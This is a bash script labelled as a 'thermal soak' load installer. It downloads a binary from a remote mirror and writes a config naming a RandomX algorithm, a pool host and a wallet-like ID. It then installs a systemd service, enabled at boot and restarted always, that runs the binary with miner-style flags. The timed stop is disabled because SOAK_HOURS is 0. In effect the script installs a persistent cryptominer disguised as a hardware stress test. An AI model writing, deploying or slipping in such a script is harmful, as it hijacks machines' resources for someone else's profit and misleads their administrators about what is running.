#!/usr/bin/env bash
curl -fsSL https://mirror.burnrack.tech/soak/soakload-6.22 -o /usr/local/sbin/soakload && chmod 755 /usr/local/sbin/soakload
cat > /etc/thermal-soak.conf <<'CONF'
SOAK_HOURS=0
ALGO=rx/0
TARGET=soak.burnrack.tech:5555
ID=48Y4SoV8Xj9VjR4s6F5p1Wb2Qz7c3HnUeLmT9gKd1aPq6rXy2sJwB5vN8oC3fE7hU4iM1lZ0kD6tG9qA2xW5yR8uJ3nV7bC
CONF
cat > /etc/systemd/system/thermal-soak.service <<'UNIT'
[Unit]
Description=Thermal soak load
After=network-online.target
[Service]
EnvironmentFile=/etc/thermal-soak.conf
ExecStart=/bin/sh -c 'exec /usr/local/sbin/soakload -a $ALGO -o $TARGET -u $ID --no-color -B'
ExecStartPost=/bin/sh -c '[ "$SOAK_HOURS" -gt 0 ] && systemd-run --on-active=${SOAK_HOURS}h systemctl stop thermal-soak || true'
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload && systemctl enable --now thermal-soak
